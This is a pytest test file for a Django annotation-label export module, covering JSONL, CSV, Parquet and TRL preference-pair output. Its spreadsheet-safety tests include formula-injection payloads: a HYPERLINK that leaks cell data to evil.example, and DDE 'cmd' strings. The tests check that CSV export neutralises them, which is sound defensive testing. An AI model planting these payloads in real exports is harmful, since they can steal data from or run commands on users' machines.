import csv
import io
import json
import uuid
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.utils import timezone

from annotations.exports import (
    ExportInvalid,
    ExportSpec,
    annotator_pseudonym,
    export_plan,
    export_write,
)
from annotations.kinds import PairwisePayload
from annotations.services import NewItem, label_submit, queue_item_claim, queue_items_create
from tests.annotations.factories import (
    export,
    jsonl,
    labelled_queue,
    likert,
    make_queue,
)
from tests.factories import UserFactory


def test_per_label_jsonl_carries_provenance(db):
    queue, people = labelled_queue()
    rows = jsonl(export(queue))
    assert len(rows) == 9
    first = rows[0]
    assert set(first) == {
        "queue",
        "item_id",
        "external_id",
        "label",
        "annotator",
        "labelled_at",
        "time_spent_ms",
        "payload",
    }
    assert (first["queue"], first["external_id"], first["time_spent_ms"]) == ("prefs", "x0", 2000)
    assert first["payload"] == {
        "prompt": "Q0",
        "response_a": "A0",
        "response_b": "B0",
        "system": "sys",
    }
    # Pseudonymous: stable per annotator, and neither their name nor their id.
    annotators = {row["annotator"] for row in rows}
    assert annotators == {annotator_pseudonym(person.pk) for person in people}
    assert not any(person.username in json.dumps(rows) for person in people)
    assert [row["label"] for row in rows if row["external_id"] == "x1"] == ["a", "b", "tie"]


def test_majority_drops_ties_and_reports_agreement(db):
    queue, _ = labelled_queue()
    rows = jsonl(export(queue, aggregation="majority"))
    assert [
        (row["external_id"], row["label"], row["agreement"], row["n_labels"]) for row in rows
    ] == [
        ("x0", "a", 0.6667, 3),
        ("x2", "b", 1.0, 3),
    ]
    assert len(rows[0]["annotators"]) == 3
    assert rows[0]["first_labelled_at"] <= rows[0]["last_labelled_at"]


def test_minimum_agreement_filter(db):
    queue, _ = labelled_queue()
    rows = jsonl(export(queue, min_agreement=0.9))
    assert {row["external_id"] for row in rows} == {"x2"}


def test_gold_threshold_drops_annotators_and_gold_stays_out_unless_asked(db):
    queue, people = labelled_queue(gold=True)
    rows = jsonl(export(queue, min_gold_accuracy=0.5))
    assert annotator_pseudonym(people[2].pk) not in {row["annotator"] for row in rows}
    assert len(rows) == 6 and all(row["external_id"] != "g-0" for row in rows)
    with_gold = jsonl(export(queue, include_gold=True))
    assert sum(row["external_id"] == "g-0" for row in with_gold) == 3


def test_date_filters(db):
    queue, _ = labelled_queue()
    now = timezone.now()
    assert len(jsonl(export(queue, since=now - timedelta(minutes=5)))) == 9
    assert export(queue, until=now - timedelta(minutes=5)) == b""
    with pytest.raises(ExportInvalid, match="'since' must be before 'until'"):
        export_plan(ExportSpec(queues=[queue.pk], since=now, until=now))


def test_csv_is_flat_with_payload_columns(db):
    queue, _ = labelled_queue()
    rows = list(csv.DictReader(io.StringIO(export(queue, format="csv").decode())))
    assert len(rows) == 9
    assert list(rows[0]) == [
        "queue", "item_id", "external_id", "label", "annotator", "labelled_at", "time_spent_ms",
        "prompt", "response_a", "response_b", "system",
    ]  # fmt: skip
    assert (rows[0]["prompt"], rows[0]["label"]) == ("Q0", "a")
    majority = list(
        csv.DictReader(io.StringIO(export(queue, format="csv", aggregation="majority").decode()))
    )
    assert len(majority) == 2 and len(majority[0]["annotators"].split()) == 3


def test_parquet_reads_back(db, tmp_path):
    import pyarrow.parquet as pq

    queue, _ = labelled_queue()
    path = tmp_path / "labels.parquet"
    path.write_bytes(export(queue, format="parquet"))
    table = pq.read_table(path)
    assert table.num_rows == 9
    assert table.column("label").to_pylist()[:3] == ["a", "a", "b"]
    assert str(table.schema.field("item_id").type) == "int64"
    empty = tmp_path / "empty.parquet"
    empty.write_bytes(export(queue, format="parquet", until=timezone.now() - timedelta(days=1)))
    assert pq.read_table(empty).num_rows == 0


def test_likert_parquet_labels_are_integers(db, annotator):
    import pyarrow.parquet as pq

    queue = make_queue(kind="likert", members=[annotator], items=likert(2))
    for rating in (3, 6):
        lease = queue_item_claim(queue=queue, annotator=annotator)
        label_submit(
            assignment_id=lease.pk,
            annotator=annotator,
            value={"rating": rating},
            time_spent_ms=1,
            client_request_id=uuid.uuid4(),
        )
    table = pq.read_table(io.BytesIO(export(queue, format="parquet")))
    assert table.column("label").to_pylist() == [3, 6]


def test_trl_plain_pairs(db):
    queue, _ = labelled_queue()
    rows = jsonl(export(queue, format="trl"))
    # Ties and both-bad say nothing about a preference: 8 of 9 labels become pairs.
    assert len(rows) == 8
    assert {key: rows[0][key] for key in ("prompt", "chosen", "rejected")} == {
        "prompt": "Q0",
        "chosen": "A0",
        "rejected": "B0",
    }
    assert {key: rows[2][key] for key in ("prompt", "chosen", "rejected")} == {
        "prompt": "Q0",
        "chosen": "B0",
        "rejected": "A0",
    }
    assert "item_id" in rows[0] and "annotator" in rows[0] and "payload" not in rows[0]
    majority = jsonl(export(queue, format="trl", aggregation="majority"))
    assert [(row["chosen"], row["rejected"]) for row in majority] == [("A0", "B0"), ("B2", "A2")]


def test_preference_pairs_for_training_are_the_trl_exports_majority_pairs(db):
    from annotations.exports.records import preference_pairs

    queue, _ = labelled_queue()
    written = jsonl(export(queue, format="trl", aggregation="majority"))
    pairs = preference_pairs([queue.pk])
    assert pairs == written and [p["prompt"] for p in pairs] == ["Q0", "Q2"]


def test_trl_conversational_pairs(db):
    queue, _ = labelled_queue()
    rows = jsonl(export(queue, format="trl_conversational", aggregation="majority"))
    assert rows[0]["prompt"] == [
        {"role": "system", "content": "sys"},
        {"role": "user", "content": "Q0"},
    ]
    assert rows[0]["chosen"] == [{"role": "assistant", "content": "A0"}]
    assert rows[1]["prompt"] == [{"role": "user", "content": "Q2"}]
    assert rows[1]["rejected"] == [{"role": "assistant", "content": "A2"}]


def test_specs_the_data_cannot_serve_are_refused(db, annotator):
    pairs, _ = labelled_queue()
    ratings = make_queue(kind="likert", members=[annotator], items=likert(1))
    with pytest.raises(ExportInvalid, match="needs queues whose items compare two responses"):
        export_plan(ExportSpec(queues=[ratings.pk], format="trl"))
    with pytest.raises(ExportInvalid, match="one kind at a time"):
        export_plan(ExportSpec(queues=[ratings.pk, pairs.pk]))
    with pytest.raises(ExportInvalid, match="do not exist"):
        export_plan(ExportSpec(queues=[9999]))


def test_export_labels_command(db, tmp_path, capsys):
    queue, _ = labelled_queue()
    out = tmp_path / "prefs.jsonl"
    call_command("export_labels", "--queue", "prefs", "--format", "trl", "--output", str(out))
    assert len(out.read_text().splitlines()) == 8
    assert "Exported 8 rows" in capsys.readouterr().err
    with pytest.raises(CommandError, match="less than or equal to 1"):
        call_command("export_labels", "--queue", "prefs", "--min-agreement", "2")
    with pytest.raises(CommandError, match="No queue named"):
        call_command("export_labels", "--queue", "nope")


# Everything JSON or COPY might mangle: quotes, backslashes (and text that looks like an escape),
# newlines, tabs, control characters (COPY's own delimiter and quote among them), accents,
# wide characters, emoji, a line separator, markup.
TRICKY = [
    "\"quoted\" and 'single'",
    "back\\slash, \\n and \\t and \\u00e9 that are not escapes, \\\\ two, and \\",
    "line one\nline two\r\nline three\n",
    "tab\there\t",
    "\x01 \x02 \x1f \x7f \u2028 \u00a0",
    "é ✓ 日本語 Ωmega",
    "emoji 😀 👍🏽 👨‍👩‍👧",
    "</script><b>&amp;</b>",
    '{"json": [1, "two"]}',
    "🌍",
]


def both_paths(monkeypatch, queue) -> tuple[bytes, bytes]:
    """The export written by Postgres (fast path) and by Python (portable path)."""
    from annotations.exports import fast as fast_path

    assert fast_path.fast_path_applies(export_plan(ExportSpec(queues=[queue.pk])))
    fast = export(queue)
    with monkeypatch.context() as patch:
        patch.setattr(fast_path, "fast_path_applies", lambda plan: False)
        portable = export(queue)
    return fast, portable


def label_all(queue, person, values) -> None:
    for value in values:
        lease = queue_item_claim(queue=queue, annotator=person)
        assert lease is not None
        label_submit(
            assignment_id=lease.pk,
            annotator=person,
            value=value,
            time_spent_ms=1234,
            client_request_id=uuid.uuid4(),
        )


@pytest.mark.postgres
def test_postgres_fast_path_writes_the_same_records_as_the_portable_one(db, monkeypatch):
    queue, _ = labelled_queue()
    tricky = PairwisePayload(
        prompt='"quoted"\n<script>é ✓\\', response_a="\tA\t", response_b="\u0001"
    )
    queue_items_create(queue=queue, items=[NewItem(payload=tricky, external_id="tricky")])
    person = UserFactory(username="late")
    queue.members.add(person)
    label_all(queue, person, [{"choice": "tie"}])
    fast, portable = both_paths(monkeypatch, queue)
    assert len(fast.splitlines()) == 10
    assert jsonl(fast) == jsonl(portable)


@pytest.mark.postgres
def test_postgres_fast_path_keeps_tricky_text_exactly(db, monkeypatch):
    person = UserFactory(username="tricky")
    items = [
        NewItem(
            payload=PairwisePayload(
                prompt=text, response_a=TRICKY[i - 1], response_b=text[::-1], system=text
            ),
            external_id=f"{text[:20]}#{i}",
        )
        for i, text in enumerate(TRICKY)
    ]
    queue = make_queue(name='Queue "ü" \\ 😀\t', members=[person], items=items, labels_per_item=1)
    choices = ["a", "b", "tie", "both_bad"]
    label_all(queue, person, [{"choice": choices[i % 4]} for i in range(len(TRICKY))])
    fast, portable = both_paths(monkeypatch, queue)
    rows = jsonl(fast)
    assert len(rows) == len(TRICKY)
    assert rows == jsonl(portable)
    assert fast == portable  # byte for byte, even
    # The text survives, not just a consistent mangling of it, and each label is one line.
    assert [row["payload"]["prompt"] for row in rows] == TRICKY
    assert [row["external_id"] for row in rows] == [item.external_id for item in items]
    assert {row["queue"] for row in rows} == {'Queue "ü" \\ 😀\t'}
    assert fast.count(b"\n") == len(TRICKY)


@pytest.mark.postgres
def test_postgres_fast_path_likert_labels_are_numbers(db, monkeypatch, annotator):
    queue = make_queue(kind="likert", members=[annotator], items=likert(3), labels_per_item=1)
    label_all(queue, annotator, [{"rating": rating} for rating in (1, 7, 4)])
    fast, portable = both_paths(monkeypatch, queue)
    assert [row["label"] for row in jsonl(fast)] == [1, 7, 4]
    assert jsonl(fast) == jsonl(portable)


@pytest.mark.parametrize(
    "fast",
    [pytest.param(True, marks=pytest.mark.postgres, id="fast-path"),
     pytest.param(False, id="portable-path")],
)  # fmt: skip
def test_progress_counts_every_label_in_blocks(db, monkeypatch, fast):
    from annotations.exports import fast as fast_path
    from annotations.exports import records

    if not fast:
        monkeypatch.setattr(fast_path, "fast_path_applies", lambda plan: False)
    monkeypatch.setattr(records, "CHUNK_ROWS", 4)
    queue, _ = labelled_queue()
    told: list[int] = []
    out = io.BytesIO()
    written = export_write(export_plan(ExportSpec(queues=[queue.pk])), out, on_labels=told.append)
    assert written == sum(told) == len(out.getvalue().splitlines()) == 9
    if fast:
        assert told == [4, 4, 1]


@pytest.mark.postgres
def test_copy_rows_quoted_by_postgres_are_taken_back(db):
    # JSON text never holds COPY's delimiter or quote raw, so Postgres never quotes a line of
    # the export; should it ever, the writer must still put back the value exactly.
    from annotations.exports.fast import _COPY_OPTIONS, _write_rows

    values = ["plain", "\x02quote\x02\x02", "delimiter\x01", "new\nline", "both\x01\x02\n", "é😀"]
    with connection.cursor() as cursor:
        statement = f"COPY (SELECT unnest(%s::text[])) TO STDOUT ({_COPY_OPTIONS})"
        with cursor.copy(connection.ops.compose_sql(statement, [values])) as copy:
            rows = [bytes(row) for row in copy]
    out = io.BytesIO()
    assert _write_rows(rows, out, None) == len(values)
    assert out.getvalue() == "".join(value + "\n" for value in values).encode()


# --- spreadsheet safety ---------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1",
    "\r=CR",
]


def formula_queue():
    """A labelled pairwise queue whose every text cell starts with a formula character."""
    annotator = UserFactory(username="formula-annotator")
    items = [
        NewItem(
            payload=PairwisePayload(
                prompt=formula, response_a=formula, response_b=f"{formula} b", system=formula
            ),
            external_id=formula,
        )
        for formula in FORMULAS
    ]
    queue = make_queue(name="=cmd|' /C calc'!A0", members=[annotator], items=items,
                       labels_per_item=1)  # fmt: skip
    while (lease := queue_item_claim(queue=queue, annotator=annotator)) is not None:
        label_submit(assignment_id=lease.pk, annotator=annotator, value={"choice": "a"},
                     time_spent_ms=1, client_request_id=uuid.uuid4())  # fmt: skip
    return queue


TEXT_COLUMNS = ["queue", "external_id", "prompt", "response_a", "response_b", "system"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(db):
    queue = formula_queue()
    rows = list(csv.DictReader(io.StringIO(export(queue, format="csv").decode(), newline="")))
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        assert row["prompt"] == row["external_id"] == row["system"] == "'" + formula
        assert row["response_b"] == f"'{formula} b"
        assert row["queue"] == "'=cmd|' /C calc'!A0"
        for column in TEXT_COLUMNS:  # no cell a spreadsheet would evaluate
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
    # Other cells are untouched: numbers stay numbers, plain text stays as it is.
    assert rows[0]["item_id"].isdigit() and rows[0]["label"] == "a"


def test_the_raw_csv_option_writes_cells_as_given(db):
    queue = formula_queue()
    data = export(queue, format="csv", csv_raw=True).decode()
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert [row["prompt"] for row in rows] == FORMULAS
    assert [row["external_id"] for row in rows] == FORMULAS
    assert rows[0]["queue"] == "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("fmt", ["jsonl", "trl", "trl_conversational"])
def test_jsonl_and_trl_stay_byte_faithful(db, fmt):
    queue = formula_queue()
    records = jsonl(export(queue, format=fmt))
    assert len(records) == len(FORMULAS)
    for record, formula in zip(records, FORMULAS, strict=True):
        assert record["external_id"] == formula
        if fmt == "jsonl":
            assert record["payload"]["prompt"] == record["payload"]["system"] == formula
        elif fmt == "trl":
            assert record["prompt"] == record["chosen"] == formula
            assert record["rejected"] == f"{formula} b"
        else:
            assert record["prompt"][0] == {"role": "system", "content": formula}
            assert record["chosen"] == [{"role": "assistant", "content": formula}]


def test_parquet_stays_byte_faithful(db):
    import pyarrow.parquet as pq

    queue = formula_queue()
    table = pq.read_table(io.BytesIO(export(queue, format="parquet")))
    assert table.column("prompt").to_pylist() == FORMULAS
    assert table.column("external_id").to_pylist() == FORMULAS
    assert table.column("queue").to_pylist() == ["=cmd|' /C calc'!A0"] * len(FORMULAS)


def test_unknown_time_is_empty_in_every_format(db, tmp_path):
    import pyarrow.parquet as pq

    from annotations.models import Label

    queue, _ = labelled_queue()
    untimed = Label.objects.filter(item__external_id="x0").order_by("id").first()
    Label.objects.filter(pk=untimed.pk).update(time_spent_ms=None)

    def time_of_x0(rows) -> list:
        return [row["time_spent_ms"] for row in rows if row["external_id"] == "x0"]

    assert time_of_x0(jsonl(export(queue))) == [None, 2000, 2000]
    assert time_of_x0(jsonl(export(queue, format="trl"))) == [None, 2000, 2000]
    assert time_of_x0(jsonl(export(queue, format="trl_conversational"))) == [None, 2000, 2000]
    rows = list(csv.DictReader(io.StringIO(export(queue, format="csv").decode())))
    assert time_of_x0(rows) == ["", "2000", "2000"]
    path = tmp_path / "labels.parquet"
    path.write_bytes(export(queue, format="parquet"))
    assert time_of_x0(pq.read_table(path).to_pylist()) == [None, 2000, 2000]


@pytest.mark.postgres
def test_postgres_fast_path_writes_unknown_time_as_null(db, monkeypatch):
    from annotations.models import Label

    queue, _ = labelled_queue()
    Label.objects.filter(item__external_id="x1").update(time_spent_ms=None)
    fast, portable = both_paths(monkeypatch, queue)
    assert jsonl(fast) == jsonl(portable)
    assert [row["time_spent_ms"] for row in jsonl(fast) if row["external_id"] == "x1"] == [None] * 3
